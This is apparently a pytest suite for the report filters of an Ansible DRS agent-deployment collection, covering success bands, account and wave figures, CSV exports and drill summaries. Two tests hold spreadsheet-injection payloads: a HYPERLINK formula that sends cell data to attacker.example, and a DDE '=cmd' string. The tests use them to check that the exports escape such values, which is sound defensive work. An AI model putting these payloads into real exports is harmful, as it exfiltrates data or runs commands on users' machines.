"""The drs_report role's logic: time range, colour bands, per-account figures, unprotected instances and the CSV
exports, over history items in the layout drs_history_info returns."""

import base64
import csv
import hashlib
import io
from datetime import datetime, timedelta, timezone

import pytest
from ansible.errors import AnsibleFilterError

from ansible_collections.drs_orchestration.agent_deployer.plugins.filter.report import FilterModule
from ansible_collections.drs_orchestration.agent_deployer.plugins.module_utils import history
from ansible_collections.drs_orchestration.agent_deployer.plugins.module_utils import outcomes
from ansible_collections.drs_orchestration.agent_deployer.plugins.plugin_utils import report

START = datetime(2025, 3, 1, 10, 0, 0, 871000, tzinfo=timezone.utc)


def _iso(moment):
    return moment.strftime("%Y-%m-%dT%H:%M:%S.") + f"{moment.microsecond // 1000:03d}Z"


def _unprotected(instance_id, status, reason, remediation="Fix it, then re-run.", category=None, wave=1, name=None):
    return {"instance_id": instance_id, "name": name or f"server {instance_id}", "region": "eu-west-1", "wave": wave,
            "priority": "high", "status": status, "error_category": category, "ssm_status": None, "command_id": None,
            "reason": reason, "remediation": remediation}


def _item(account_id, by_status, unprotected=(), started=START, deployment_id="d-1", status="partial", run_id="0a1b2c3d",
          name=None, finished=True, lease_until=None, left_out=0):
    """An item as drs_history_info returns it: its figures are those of ``by_status``."""
    item = {
        "deployment_id": deployment_id,
        "timestamp": f"{_iso(started)}#{account_id}#{run_id}",
        "record_type": "deployment",
        "run_id": run_id,
        "source_account_id": account_id,
        "source_account_name": name or f"account {account_id}",
        "deployment_pattern": "cross-account",
        "regions": ["eu-west-1"],
        "started_at": _iso(started),
        "updated_at": _iso(started + timedelta(minutes=5)),
        "status": status,
        "stopped_after_wave": None,
        "stop_reason": None,
        "unprotected_instances": list(unprotected),
        "unprotected_left_out": left_out,
        "in_flight": [],
        "unreachable": [],
    }
    item.update(outcomes.tally(by_status))
    if finished:
        item["finished_at"] = _iso(started + timedelta(minutes=12, seconds=5))
        item["duration_seconds"] = 725.0
    else:
        item["lease_until"] = lease_until or _iso(started + timedelta(minutes=15))
    return item


@pytest.mark.parametrize("rate, band", [
    (1.0, "green"), (0.95, "green"), (19 / 20, "green"), (0.9499, "yellow"), (0.94999999, "yellow"),
    (0.8, "yellow"), (4 / 5, "yellow"), (0.7999, "red"), (0.0, "red"), (None, "none"), ("0.95", "green"),
])
def test_colour_bands_at_the_95_and_80_percent_boundaries(rate, band):
    assert report.success_band(rate) == band


@pytest.mark.parametrize("succeeded, attempted, band", [
    (57, 60, "green"), (56, 60, "yellow"), (48, 60, "yellow"), (47, 60, "red"), (8, 10, "yellow"), (95, 100, "green"),
])
def test_rates_computed_from_counts_are_not_put_one_band_lower_by_rounding(succeeded, attempted, band):
    figures = outcomes.tally({"installed": succeeded, "failed": attempted - succeeded})
    assert report.success_band(figures["success_rate"]) == band


def test_account_rates_sum_the_status_counts_of_all_their_deployments():
    deployments = [
        _item("111111111111", {"installed": 10}, status="success"),
        _item("111111111111", {"installed": 6, "already_registered": 2, "failed": 1, "timed_out": 1},
              deployment_id="d-2", started=START + timedelta(hours=2)),
        # 19 of 20 protected; the skipped, unsettled and unplanned instances are not attempted
        _item("222222222222", {"installed": 19, "not_registered_after_success": 1, "skipped_ssm_offline": 3,
                               "not_started": 2, "no_wave": 1}),
        _item("333333333333", {"skipped_not_managed": 4}, deployment_id="d-3", status="failed"),
    ]
    rows = {row["account_id"]: row for row in report.account_rows(deployments)}
    assert list(rows) == ["111111111111", "222222222222", "333333333333"]
    first = rows["111111111111"]
    assert (first["deployments"], first["attempted"], first["installed"], first["already_registered"], first["failed"]) \
        == (2, 20, 16, 2, 2)
    assert first["success_rate"] == pytest.approx(18 / 20) and first["band"] == "yellow"
    assert first["last_status"] == "partial" and first["last_started_at"] == "2025-03-01 12:00:00"
    second = rows["222222222222"]
    assert second["success_rate"] == pytest.approx(19 / 20) and second["band"] == "green"
    assert (second["skipped"], second["unsettled"], second["unplanned"], second["unprotected"]) == (3, 2, 1, 7)
    # nothing attempted: no rate, grey rather than red
    assert rows["333333333333"]["success_rate"] is None and rows["333333333333"]["band"] == "none"


def test_the_summary_counts_every_deployment_status_and_sums_the_instances():
    statuses = ["in_progress", "success", "partial", "failed", "stopped", "interrupted", "interrupted"]
    deployments = [_item(f"11111111111{number}", {"installed": 3, "failed": 1}, status=status, run_id=f"run{number:05d}")
                   for number, status in enumerate(statuses)]
    summary = report.report_data(deployments)["summary"]
    assert summary["statuses"] == {status: statuses.count(status) for status in report.DEPLOYMENT_STATUSES}
    assert list(summary["statuses"]) == ["in_progress", "success", "partial", "failed", "stopped", "interrupted"]
    assert (summary["attempted"], summary["protected"], summary["failed"]) == (28, 21, 7)
    assert summary["success_rate"] == pytest.approx(0.75) and summary["band"] == "red"
    assert summary["records"] == 7 and summary["deployments"] == 1 and summary["accounts"] == 7


def test_the_timeline_shows_start_status_and_duration_never_the_sort_key():
    finished = _item("111111111111", {"installed": 2}, status="success")
    stopped = dict(_item("222222222222", {"installed": 1, "in_flight": 1, "not_started": 3}, status="stopped",
                         started=START + timedelta(hours=1)), stopped_after_wave=1, stop_reason="SIGTERM received")
    interrupted = dict(_item("333333333333", {"installed": 1}, status="interrupted", finished=False,
                             started=START + timedelta(hours=2)), recorded_status="in_progress")
    timeline = report.report_data([finished, stopped, interrupted])["timeline"]
    assert [entry["status"] for entry in timeline] == ["interrupted", "stopped", "success"]  # newest first
    by_account = {entry["source_account_id"]: entry for entry in timeline}
    assert by_account["111111111111"]["started"] == "2025-03-01 10:00:00"
    assert by_account["111111111111"]["finished"] == "2025-03-01 10:12:05"
    assert by_account["111111111111"]["duration"] == "12 min 5 s"
    # a run that has not finished has no end and no duration, but shows until when its lease ran
    assert by_account["333333333333"]["finished"] == "" and by_account["333333333333"]["duration"] == ""
    assert by_account["333333333333"]["lease_until_shown"] == "2025-03-01 12:15:00"
    assert by_account["222222222222"]["figures"]["unsettled"] == 4
    assert by_account["222222222222"]["figures"]["success_rate"] == 1.0
    for entry in timeline:
        assert "#" not in entry["started"] + entry["finished"]


def test_the_unprotected_instances_are_grouped_by_account_then_status_and_category():
    offline = _unprotected("i-off", "skipped_ssm_offline", "SSM ping status ConnectionLost",
                           outcomes.status_remediation("skipped_ssm_offline"))
    network = _unprotected("i-net", "failed", "curl: (28) Connection timed out", "Open 443 to the DRS endpoints.",
                           category="network", wave=2)
    agent = _unprotected("i-agent", "failed", "exit code 1", "Read the agent's installation log.",
                         category="agent_install", wave=0)
    untagged = _unprotected("i-tag", "no_wave", "no dr:wave tag", outcomes.status_remediation("no_wave"), wave=None)
    newer_network = _unprotected("i-net2", "failed", "connect timeout", "Open 443.", category="network", wave=1)
    deployments = [
        _item("222222222222", {"installed": 4, "failed": 2, "skipped_ssm_offline": 1, "no_wave": 1},
              unprotected=[offline, network, agent, untagged], name="Shared"),
        _item("222222222222", {"failed": 1}, unprotected=[newer_network], deployment_id="d-2",
              started=START + timedelta(days=1), status="failed", name="Shared"),
        _item("111111111111", {"installed": 5}, status="success"),
    ]
    groups = report.report_data(deployments)["unprotected_by_account"]
    assert [group["account_id"] for group in groups] == ["222222222222"]  # an account with none has no group
    group = groups[0]
    assert group["account_name"] == "Shared" and group["count"] == 5 and group["left_out"] == []
    kinds = [(kind["status"], kind["error_category"], [entry["instance_id"] for entry in kind["instances"]])
             for kind in group["kinds"]]
    # statuses in the order of the outcome model, failures by category, the newest run first
    assert kinds == [("failed", "agent_install", ["i-agent"]), ("failed", "network", ["i-net2", "i-net"]),
                     ("skipped_ssm_offline", "", ["i-off"]), ("no_wave", "", ["i-tag"])]
    shown = {entry["instance_id"]: entry for kind in group["kinds"] for entry in kind["instances"]}
    for instance in (offline, network, agent, untagged, newer_network):
        assert shown[instance["instance_id"]]["reason"] == instance["reason"]
        assert shown[instance["instance_id"]]["remediation"] == instance["remediation"]
    assert shown["i-net2"]["started"] == "2025-03-02 10:00:00" and shown["i-net2"]["deployment_id"] == "d-2"
    assert {kind["status"]: kind["group"] for kind in group["kinds"]} == {
        "failed": "failed", "skipped_ssm_offline": "skipped", "no_wave": "unplanned"}


def test_the_failed_instances_are_the_unprotected_ones_whose_status_is_a_failure():
    unprotected = [_unprotected(f"i-{status}", status, f"because {status}", category="agent_install")
                   for status in outcomes.UNPROTECTED_STATUSES]
    deployment = _item("111111111111", outcomes.count(entry["status"] for entry in unprotected), unprotected)
    data = report.report_data([deployment])
    [group] = data["failures_by_account"]
    assert sorted(entry["instance_id"] for entry in group["failures"]) == \
        sorted(f"i-{status}" for status in outcomes.FAILED_STATUSES)
    assert all(entry["error_message"] == entry["reason"] for entry in group["failures"])
    assert data["summary"]["failed_instances"] == len(outcomes.FAILED_STATUSES)
    assert data["summary"]["unprotected_listed"] == data["summary"]["unprotected"] == len(unprotected)


def test_an_item_that_left_unprotected_instances_out_is_noted_with_how_many():
    listed = [_unprotected(f"i-{number:03d}", "skipped_not_managed", "not managed by SSM") for number in range(3)]
    deployment = _item("111111111111", {"skipped_not_managed": 10}, listed, status="failed", left_out=7)
    data = report.report_data([deployment])
    [group] = data["unprotected_by_account"]
    assert group["left_out"] == [{"deployment_id": "d-1", "count": 7, "listed": 3, "started": "2025-03-01 10:00:00"}]
    assert data["summary"]["unprotected_left_out"] == 7
    assert data["summary"]["unprotected_listed"] == 3 and data["summary"]["unprotected"] == 10


def test_an_empty_history_gives_an_empty_report():
    data = report.report_data([])
    assert data["summary"]["deployments"] == 0 and data["summary"]["success_rate"] is None
    assert data["summary"]["statuses"] == dict.fromkeys(report.DEPLOYMENT_STATUSES, 0)
    assert data["accounts"] == data["failures_by_account"] == data["unprotected_by_account"] == data["timeline"] == []


def test_an_instance_status_the_outcome_model_does_not_know_stops_the_report():
    deployment = _item("111111111111", {"installed": 1})
    deployment["by_status"] = {"installed": 1, "exploded": 1}
    with pytest.raises(AnsibleFilterError, match="exploded"):
        FilterModule().filters()["drs_report_data"]([deployment])


def _rows(text):
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_failures_csv_holds_the_runs_start_time_not_the_tables_sort_key():
    failure = _unprotected("i-1", "timed_out", "still running at the deadline", category="ssm_timeout")
    deployment = _item("222222222222", {"timed_out": 1, "installed": 3}, [failure], name="Shared")
    text = report.failures_csv(report.flatten_failures([deployment]))
    assert text.startswith(",".join(report.FAILURE_CSV_COLUMNS) + "\r\n")
    [row] = _rows(text)
    assert "timestamp" not in row
    assert row["started_at"] == deployment["started_at"] != deployment["timestamp"]
    assert report.parse_time(row["started_at"]) == START
    assert (row["deployment_id"], row["account_id"], row["account_name"]) == ("d-1", "222222222222", "Shared")
    assert (row["instance_id"], row["error_category"], row["error_message"], row["remediation"]) == (
        "i-1", "ssm_timeout", "still running at the deadline", failure["remediation"])


def test_unprotected_csv_has_a_row_per_unprotected_instance_with_its_run_and_account():
    instances = [
        _unprotected("i-1", "skipped_ssm_offline", "ping ConnectionLost", outcomes.status_remediation("skipped_ssm_offline")),
        _unprotected("i-2", "failed", 'line one\nline "two", end', "Open 443", category="network", wave=0,
                     name="db,primary"),
        _unprotected("i-3", "no_wave", "no wave tag", outcomes.status_remediation("no_wave"), wave=None),
    ]
    deployments = [_item("111111111111", {"skipped_ssm_offline": 1, "failed": 1, "no_wave": 1}, instances,
                         name='Prod, "EU"'),
                   _item("222222222222", {"installed": 4}, status="success")]
    text = report.unprotected_csv(report.flatten_unprotected(deployments))
    assert text.startswith(",".join(report.UNPROTECTED_CSV_COLUMNS) + "\r\n")
    assert list(report.UNPROTECTED_CSV_COLUMNS) == [
        "deployment_id", "started_at", "account_id", "account_name", "region", "instance_id", "name", "wave",
        "priority", "status", "error_category", "reason", "remediation"]
    assert '"Prod, ""EU"""' in text and '"db,primary"' in text and '"line one\nline ""two"", end"' in text
    rows = _rows(text)
    assert [row["instance_id"] for row in rows] == ["i-1", "i-2", "i-3"]
    for row, instance in zip(rows, instances):
        assert row["deployment_id"] == "d-1" and row["started_at"] == deployments[0]["started_at"]
        assert row["account_id"] == "111111111111" and row["account_name"] == 'Prod, "EU"'
        for column in ("region", "instance_id", "name", "priority", "status", "reason", "remediation"):
            assert row[column] == instance[column], column
        assert row["error_category"] == (instance["error_category"] or "")
        assert row["wave"] == ("" if instance["wave"] is None else str(instance["wave"]))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
@pytest.mark.parametrize("export", ["failures", "unprotected"])
def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_stay_text(start, export):
    hostile = start + 'HYPERLINK("http://attacker.example/?"&A1,"click")'
    instance = _unprotected("i-1", "failed", hostile, remediation=hostile, category="unknown", wave=-1, name=hostile)
    deployment = _item("111111111111", {"failed": 1}, [instance], name=hostile)
    flatten, write = {"failures": (report.flatten_failures, report.failures_csv),
                      "unprotected": (report.flatten_unprotected, report.unprotected_csv)}[export]
    [row] = _rows(write(flatten([deployment])))
    message = row["error_message"] if export == "failures" else row["reason"]
    assert row["name"] == row["account_name"] == row["remediation"] == message == "'" + hostile
    # numbers are not text a spreadsheet could run; they stay as they are, like ordinary text does
    assert row["wave"] == "-1" and row["instance_id"] == "i-1" and row["error_category"] == "unknown"


def test_csv_of_no_instance_is_the_header_alone():
    assert report.failures_csv([]) == ",".join(report.FAILURE_CSV_COLUMNS) + "\r\n"
    assert report.unprotected_csv([]) == ",".join(report.UNPROTECTED_CSV_COLUMNS) + "\r\n"


def test_flattened_instances_carry_their_run_and_come_in_time_order():
    later = _item("111111111111", {"failed": 1}, [_unprotected("i-later", "failed", "x")], deployment_id="d-2",
                  started=START + timedelta(hours=1))
    earlier = _item("222222222222", {"not_started": 1}, [_unprotected("i-earlier", "not_started", "y")])
    flattened = report.flatten_unprotected([later, earlier, _item("333333333333", {"installed": 1})])
    assert [entry["instance_id"] for entry in flattened] == ["i-earlier", "i-later"]
    assert {key: flattened[1][key] for key in ("deployment_id", "started_at", "account_id", "account_name",
                                               "deployment_pattern", "deployment_status")} == {
        "deployment_id": "d-2", "started_at": later["started_at"], "account_id": "111111111111",
        "account_name": "account 111111111111", "deployment_pattern": "cross-account", "deployment_status": "partial"}
    assert [entry["instance_id"] for entry in report.flatten_failures([later, earlier])] == ["i-later"]


def test_time_range_defaults_to_the_last_24_hours():
    assert report.time_range(now="2025-03-02T10:30:00Z") == {"since": "2025-03-01T10:30:00Z",
                                                             "until": "2025-03-02T10:30:00Z"}
    # since defaults to 24 hours before a given until; offsets and naive times are read as UTC
    assert report.time_range(until="2025-03-02T12:00:00+02:00") == {
        "since": "2025-03-01T10:00:00Z", "until": "2025-03-02T10:00:00Z"}
    assert report.time_range("2025-01-01", "2025-01-02T00:00:00") == {"since": "2025-01-01T00:00:00Z",
                                                                      "until": "2025-01-02T00:00:00Z"}
    default = report.time_range()
    until = datetime.strptime(default["until"], report.ISO_FORMAT).replace(tzinfo=timezone.utc)
    assert abs((datetime.now(timezone.utc) - until).total_seconds()) < 5


@pytest.mark.parametrize("since, until", [("2025-03-02T00:00:00Z", "2025-03-01T00:00:00Z"), ("yesterday", "")])
def test_time_range_rejects_a_reversed_or_unreadable_range(since, until):
    with pytest.raises(ValueError):
        report.time_range(since, until)


def test_percent():
    assert report.percent(None) == "n/a"
    assert report.percent(0.95) == "95.0%"
    assert report.percent(2 / 3, 0) == "67%"


def test_times_and_durations_for_people():
    assert report.display_time("2025-03-01T10:00:00.123Z") == "2025-03-01 10:00:00"
    assert report.display_time("not a time") == "not a time"
    assert report.display_time(None) == ""
    assert [report.display_duration(value) for value in (None, 45, 60, 725.4, 7380)] == \
        ["", "45 s", "1 min", "12 min 5 s", "2 h 3 min"]


# --- waves, categories, extension, replication, drills, trend and the page's filters -------------------------

A, B = "111111111111", "222222222222"


def _built(started, instances, accounts, extension=None, final=True, run_id=None):
    """A run's items laid out by the history's own build_items, as drs_history_info returns them."""
    waves = sorted({entry["wave"] for entry in instances if entry.get("wave") is not None})
    record = {"deployment_id": f"d-{started:%H%M}", "run_id": run_id or f"run-{started:%d%H%M}", "pattern": None,
              "started_at": started, "finished_at": started + timedelta(minutes=30) if final else None,
              "final": final, "stopped": False, "stop_reason": None, "stopped_after_wave": None,
              "accounts": [{"account_id": account, "name": f"name {account}", "staging_account_id": "333333333333",
                            "regions": ["eu-west-1"]} for account in accounts],
              "instances": instances, "waves": [{"wave": wave, "started_at": started, "finished_at": started}
                                                for wave in waves],
              "unreachable": [], "extension": extension, "in_flight": []}
    items = history.build_items(record, {account: f"name {account}" for account in accounts},
                                started + timedelta(minutes=30), 90)
    for item in items:
        item.pop("ttl")
    return items


def _instance(serial, account, status, wave=1, category=None, replication=None):
    entry = {"instance_id": f"i-{serial:05d}", "account_id": account, "region": "eu-west-1", "wave": wave,
             "priority": "high", "name": f"server {serial}", "status": status}
    if outcomes.is_failure(status):
        entry.update(error_category=category, reason="exit 1", remediation="Read the log.")
    if replication:
        entry["replication"] = dict({"reason": "why", "replication_state": None, "error": None,
                                     "error_category": None, "remediation": None, "lag_seconds": None},
                                    **replication)
    return entry


def test_results_by_wave_sum_each_waves_figures_over_accounts_and_runs():
    first = _built(START, [_instance(1, A, "installed"), _instance(2, A, "failed", category="network"),
                           _instance(3, B, "installed", wave=2),
                           _instance(4, B, "timed_out", wave=2, category="ssm_timeout")], [A, B])
    second = _built(START + timedelta(hours=1), [_instance(5, A, "installed"), _instance(6, A, "installed", wave=2)],
                    [A])
    waves = report.wave_rows(first + second)
    assert [wave["wave"] for wave in waves] == [1, 2]
    one, two = waves
    assert (one["attempted"], one["protected"], one["failed"], one["runs"]) == (3, 2, 1, 2)
    assert one["success_rate"] == pytest.approx(2 / 3, abs=1e-4) and one["band"] == "red"
    assert [(row["account_id"], row["attempted"], row["runs"]) for row in one["accounts"]] == [(A, 3, 2)]
    assert (two["attempted"], two["protected"], two["failed"]) == (3, 2, 1)
    assert [(row["account_id"], row["protected"], row["failed"]) for row in two["accounts"]] == [(A, 1, 0), (B, 1, 1)]
    assert one["accounts"][0]["statuses"] == "partial success" and one["account_ids"] == A


def test_failures_are_counted_by_error_category_most_first_then_by_account():
    failures = report.flatten_failures(
        _built(START, [_instance(1, A, "failed", category="network"), _instance(2, A, "timed_out", category="network"),
                       _instance(3, B, "failed", category="network", wave=3), _instance(4, B, "failed"),
                       _instance(5, B, "skipped_ssm_offline")], [A, B]))
    categories = report.failure_categories(failures)
    assert [(row["error_category"], row["count"]) for row in categories] == [("network", 3), ("unknown", 1)]
    network = categories[0]["accounts"]
    assert [(row["account_id"], row["count"], row["waves"]) for row in network] == [(A, 2, "1"), (B, 1, "3")]
    assert network[0]["instance_statuses"] == "1 failed, 1 timed_out"


def test_extension_results_are_counted_once_per_run_and_go_to_the_accounts_of_their_staging_account():
    extension = {"totals": {"extended": 5, "already_extended": 1, "failed": 2, "left_out": 1}, "runs": [
        {"wave": 1, "target_account_id": "999999999999", "staging_account_id": "333333333333", "region": "eu-west-1",
         "requested": 6, "extended": 4, "already_extended": 1, "failed": 1, "left_out": 0},
        {"wave": 2, "target_account_id": "999999999999", "staging_account_id": "333333333333", "region": "eu-west-1",
         "requested": 3, "extended": 1, "already_extended": 0, "failed": 1, "left_out": 1,
         "message": "1 server(s) could not be extended"}]}
    items = _built(START, [_instance(1, A, "installed"), _instance(2, B, "installed")], [A, B], extension=extension)
    assert len(items) == 2 and all(item["extension"] == extension for item in items)
    rows = report.extension_rows(items)
    assert [(row["wave"], row["requested"], row["extended"], row["already_extended"], row["failed"], row["left_out"])
            for row in rows] == [(1, 6, 4, 1, 1, 0), (2, 3, 1, 0, 1, 1)]
    assert rows[1]["message"] == "1 server(s) could not be extended"
    assert {row["accounts"] for row in rows} == {f"{A} {B}"} and rows[0]["pattern"] == "multi-account"
    assert report.extension_rows(_built(START, [_instance(1, A, "installed")], [A])) == []


def test_replication_health_takes_each_accounts_latest_verified_run_and_its_worst_lags():
    older = _built(START, [_instance(1, A, "installed", replication={"verdict": "stalled"})], [A])
    newer = _built(START + timedelta(hours=2), [
        _instance(2, A, "installed", replication={"verdict": "healthy", "lag_seconds": 1.0}),
        _instance(3, A, "installed", replication={"verdict": "syncing", "lag_seconds": 600.0}),
        _instance(4, A, "installed", wave=2, replication={"verdict": "syncing", "lag_seconds": 7300.0}),
        _instance(5, A, "installed", replication={"verdict": "stalled", "error": "UNSTABLE_NETWORK",
                                                  "error_category": "network"}),
        _instance(6, A, "installed", replication={"verdict": "disconnected"})], [A])
    unverified = _built(START + timedelta(hours=3), [_instance(7, A, "installed")], [A])
    other = _built(START, [_instance(8, B, "installed", replication={"verdict": "healthy", "lag_seconds": 0.0})], [B])
    rows = report.replication_health(older + newer + unverified + other)
    assert [row["account_id"] for row in rows] == [A, B]
    first, second = rows
    assert first["deployment_id"] == newer[0]["deployment_id"]
    assert (first["healthy"], first["syncing"], first["stalled"], first["other"], first["servers_checked"]) == \
        (1, 2, 1, 1, 5)
    assert first["counts"]["disconnected"] == 1 and first["health"] == "unhealthy"
    assert [server["instance_id"] for server in first["servers"]] == ["i-00004", "i-00003", "i-00005", "i-00006"]
    assert first["worst_lag_seconds"] == 7300.0 and first["worst_lag"] == "2 h 1 min"
    assert first["categories"] == "network" and first["waves"] == "1 2"
    assert (second["healthy"], second["health"], second["servers"], second["worst_lag"]) == (1, "healthy", [], "")
    assert [server["instance_id"] for server in report.worst_lags(rows)] == ["i-00004", "i-00003"]
    assert [server["instance_id"] for server in report.worst_lags(rows, 1)] == ["i-00004"]


def _drill(hour, waves, status="finished"):
    started = START + timedelta(hours=hour)
    return {"deployment_id": f"drill#dr{hour}", "timestamp": _iso(started), "record_type": "drill",
            "run_id": f"dr{hour}", "status": status, "started_at": _iso(started),
            "finished_at": _iso(started + timedelta(minutes=50)),
            "waves": [dict({"servers": 3, "launched": 3, "failed": 0, "timed_out": 0, "stopped": 0,
                            "not_protected": 0, "jobs": 1, "rto_seconds": None, "over_rto": False}, **wave)
                      for wave in waves]}


def test_the_last_drill_of_each_wave_with_its_recovery_time_against_its_rto():
    drills = [
        _drill(5, [{"wave": 1, "recovery_seconds": 700.0, "rto_seconds": 900}]),
        _drill(1, [{"wave": 1, "recovery_seconds": 1200.0, "rto_seconds": 900, "over_rto": True},
                   {"wave": 2, "recovery_seconds": 950.5, "rto_seconds": 900, "over_rto": True, "launched": 2,
                    "failed": 1}]),
        _drill(3, [{"wave": 3, "recovery_seconds": None, "launched": 0, "timed_out": 3}], status="stopped"),
    ]
    rows = report.last_drill_per_wave(drills)
    assert [(row["wave"], row["drill_id"], row["drills"]) for row in rows] == [
        (1, "dr5", 2), (2, "dr1", 1), (3, "dr3", 1)]
    one, two, three = rows
    assert (one["recovery"], one["rto"], one["verdict"]) == ("11 min 40 s", "15 min", "met")
    assert (two["recovery"], two["verdict"], two["launched"], two["unlaunched"]) == ("15 min 50 s", "over", 2, 1)
    assert (three["recovery"], three["verdict"], three["status"], three["unlaunched"]) == \
        ("not recovered", "none", "stopped", 3)
    assert [(row["drill_id"], row["wave"]) for row in report.flatten_drills(drills)] == \
        [("dr1", 1), ("dr1", 2), ("dr3", 3), ("dr5", 1)]


def test_drills_and_replication_csv_one_row_per_drill_wave_and_per_server_not_healthy():
    drills = [_drill(1, [{"wave": 2, "recovery_seconds": 950.5, "rto_seconds": 900, "over_rto": True},
                         {"wave": 1, "recovery_seconds": None}])]
    rows = list(csv.DictReader(io.StringIO(report.drills_csv(report.flatten_drills(drills)))))
    assert list(rows[0]) == list(report.DRILL_CSV_COLUMNS)
    assert [(row["wave"], row["recovery_seconds"], row["rto_seconds"], row["over_rto"]) for row in rows] == \
        [("1", "", "", "false"), ("2", "950.5", "900", "true")]
    assert rows[0]["drill_id"] == "dr1" and rows[0]["started_at"] == drills[0]["started_at"]
    items = _built(START, [
        _instance(1, A, "installed", replication={"verdict": "syncing", "lag_seconds": 600.0,
                                                  "replication_state": "CONTINUOUS"}),
        _instance(2, A, "installed", replication={"verdict": "stalled", "error": "=cmd|' /C calc'!A0",
                                                  "error_category": "network", "remediation": "open 1500"}),
        _instance(3, A, "installed", replication={"verdict": "healthy"})], [A])
    text = report.replication_csv(report.flatten_unhealthy(items))
    assert text.endswith("\r\n")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert list(rows[0]) == list(report.REPLICATION_CSV_COLUMNS)
    assert [(row["instance_id"], row["verdict"], row["lag_seconds"]) for row in rows] == \
        [("i-00001", "syncing", "600"), ("i-00002", "stalled", "")]
    assert rows[1]["error"] == "'=cmd|' /C calc'!A0" and rows[1]["account_id"] == A
    assert rows[0]["replication_state"] == "CONTINUOUS" and rows[0]["started_at"] == items[0]["started_at"]


def test_the_success_rate_trend_has_every_bucket_of_the_period_from_finished_runs():
    items = (_built(START, [_instance(1, A, "installed"), _instance(2, A, "failed")], [A])
             + _built(START + timedelta(minutes=20), [_instance(3, B, "installed")], [B])
             + _built(START + timedelta(hours=2), [_instance(4, A, "failed")], [A])
             + _built(START + timedelta(hours=3), [_instance(5, A, "installed")], [A], final=False))
    since, until = "2025-03-01T09:30:00Z", "2025-03-02T09:30:00Z"
    trend = report.success_trend(items, since, until)
    assert trend["unit"] == "hour" and len(trend["buckets"]) == 25
    by_start = {bucket["start"]: bucket for bucket in trend["buckets"]}
    ten = by_start["2025-03-01T10:00:00Z"]
    assert (ten["records"], ten["attempted"], ten["protected"]) == (2, 3, 2)
    assert ten["success_rate"] == pytest.approx(2 / 3, abs=1e-4) and ten["label"] == "2025-03-01 10:00"
    assert by_start["2025-03-01T12:00:00Z"]["success_rate"] == 0.0
    # the run still in progress is not counted; an empty bucket has no rate
    assert by_start["2025-03-01T13:00:00Z"]["records"] == 0 and by_start["2025-03-01T13:00:00Z"]["band"] == "none"
    week = report.success_trend(items, "2025-02-25T00:00:00Z", "2025-03-03T23:00:00Z")
    assert week["unit"] == "day" and len(week["buckets"]) == 7
    assert [bucket["records"] for bucket in week["buckets"]] == [0, 0, 0, 0, 3, 0, 0]
    year = report.success_trend(items, "2025-01-01T00:00:00Z", "2025-12-31T00:00:00Z")
    assert year["unit"] == "week" and sum(bucket["records"] for bucket in year["buckets"]) == 3


def test_the_pages_filters_offer_every_value_shown_and_its_script_is_allowed_by_hash_only():
    items = _built(START, [_instance(1, A, "failed", category="agent install", wave=2),
                           _instance(2, B, "installed", wave=10, replication={"verdict": "stalled",
                                                                              "error_category": "network"})], [A, B])
    data = report.report_data(items, {"since": "2025-03-01T00:00:00Z", "until": "2025-03-02T00:00:00Z"},
                              drills=[_drill(1, [{"wave": 3, "recovery_seconds": 60.0}], status="stopped")])
    choices = data["choices"]
    assert [choice["value"] for choice in choices["account"]] == [A, B]
    assert choices["account"][0]["label"] == f"name {A} ({A})"
    assert choices["wave"] == ["2", "3", "10"]  # numbers in number order
    assert choices["status"] == ["failed", "stopped", "success"]
    assert choices["pattern"] == ["multi-account"]
    assert choices["category"] == ["agent_install", "network"]  # whitespace made _, as on the rows
    digest = hashlib.sha256(data["script"].encode()).digest()
    assert data["script_hash"] == "sha256-" + base64.b64encode(digest).decode()
    assert "innerHTML" not in data["script"] and "{{" not in data["script"] and "{%" not in data["script"]
    assert data["drills"][0]["wave"] == 3 and data["drill_count"] == 1
    account_row = {row["account_id"]: row for row in data["accounts"]}[A]
    assert (account_row["filter_waves"], account_row["filter_categories"]) == ("2", "agent_install")
